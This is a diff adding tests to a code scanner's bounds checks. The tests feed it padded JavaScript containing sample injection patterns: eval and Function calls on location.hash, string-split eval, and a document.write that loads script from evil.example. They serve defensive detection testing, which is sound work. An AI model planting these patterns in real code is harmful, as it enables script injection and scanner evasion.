@@ -1,7 +1,39 @@
 import assert from 'node:assert/strict';
-import { createScan } from '../../../domain/scan/scan.js';
+import { createScan, type ScanResult } from '../../../domain/scan/scan.js';
 
 const MIB = 1024 * 1024;
+
+const manyNames = {
+  'numbers one by one': repeated(10_001, (i) => `let a${i}=1;`),
+  'numbers side by side': `let ${repeated(10_001, (i) => `a${i}=1,`)}z;`,
+  'texts one by one': repeated(12_000, (i) => `let a${i}='x';`),
+  'decoded texts': repeated(10_001, (i) => `var a${i}=atob('eA');`),
+  properties: `var o={};${repeated(12_000, (i) => `o.a${i}='x';`)}`,
+  // More than are kept: what is too far away to count makes room.
+  'more numbers than are kept': repeated(70_000, (i) => `a${i}=1;`),
+};
+
+/** Each is flagged where it stands alone. */
+const attacks = [
+  'var F=Function;\nF(location.hash.slice(1))();',
+  "w=window;w['ev'+x](location.hash);",
+  'var s=location.hash.slice(1);\nsetTimeout(s,1);',
+  "var h='<scr'+'ipt src=//evil.example/a.js></scr'+'ipt>';\ndocument.write(h);",
+  'var G=Object.getPrototypeOf(async function(){}).constructor;\nG(t)();',
+  'var q=atob(x);\neval(q);',
+  'var o={key:"ev"};\nwindow[o.key+"al"](x);',
+];
+
+const beyond = {
+  'texts that are put together': "a='x.'+a;".repeat(40_000),
+  'a long text that is asked for again and again': `a='${'/a.b'.repeat(60)}';${'b[a];'.repeat(20_000)}`,
+  'markup that is written again and again': `a='${'<a '.repeat(80)}';${'html(a);'.repeat(2_000)}`,
+  'fields that hold texts': repeated(33_000, (i) => `a${i}='x';`),
+  properties: `var o={};${repeated(33_000, (i) => `o.a${i}='x';`)}`,
+  'functions that are given what others decide': repeated(16_400, (i) => `fun${i}(location);`),
+  brackets: `a=${'['.repeat(2_100)}${']'.repeat(2_100)};`,
+  'addresses that are put together': "'http://1.'+'2.3.4';".repeat(6_000),
+};
 
 describe('bound on the scan', () => {
   it('lies far above what an honest package unpacks to (decisions §5)', () => {
@@ -48,4 +80,46 @@ describe('bound on the scan', () => {
     scan.file('a.php', Buffer.from(`<?php ${'['.repeat(10_100)}`));
     assert.equal(scan.result().flags_by_rule.not_scanned, 1);
   });
+
+  for (const code of attacks) {
+    for (const [what, names] of Object.entries(manyNames)) {
+      it(`follows a script past many names: ${code.replace('\n', ' ').slice(0, 40)} after ${what} (decisions §5)`, () => {
+        assert.ok(foundIn('a.js', `${names}\n${code}`) > foundIn('a.js', names));
+      });
+    }
+  }
+
+  it('says nothing of a script that has no more names than it can follow (decisions §5, not_scanned)', () => {
+    for (const names of Object.values(manyNames)) assert.equal(notScanned('a.js', names), 0);
+  });
+
+  for (const [what, code] of Object.entries(beyond)) {
+    it(`names a script of which not everything was followed: ${what} (decisions §5, not_scanned)`, () => {
+      assert.equal(notScanned('a.js', code), 1);
+    });
+  }
+
+  it('names a file with more functions than it can follow (decisions §5, not_scanned)', () => {
+    const one = (i: number) => `function f${i}(){return 'a';}`;
+    assert.equal(notScanned('a.php', `<?php ${repeated(10_001, one)}`), 1);
+    assert.equal(notScanned('a.php', `<?php ${repeated(9_000, one)}`), 0);
+  });
 });
+
+function repeated(times: number, one: (i: number) => string): string {
+  return Array.from({ length: times }, (_, i) => one(i)).join('');
+}
+
+function foundIn(path: string, code: string): number {
+  return scanned(path, code).flag_count;
+}
+
+function notScanned(path: string, code: string): number {
+  return scanned(path, code).flags_by_rule.not_scanned;
+}
+
+function scanned(path: string, code: string): ScanResult {
+  const scan = createScan();
+  scan.file(path, Buffer.from(code));
+  return scan.result();
+}
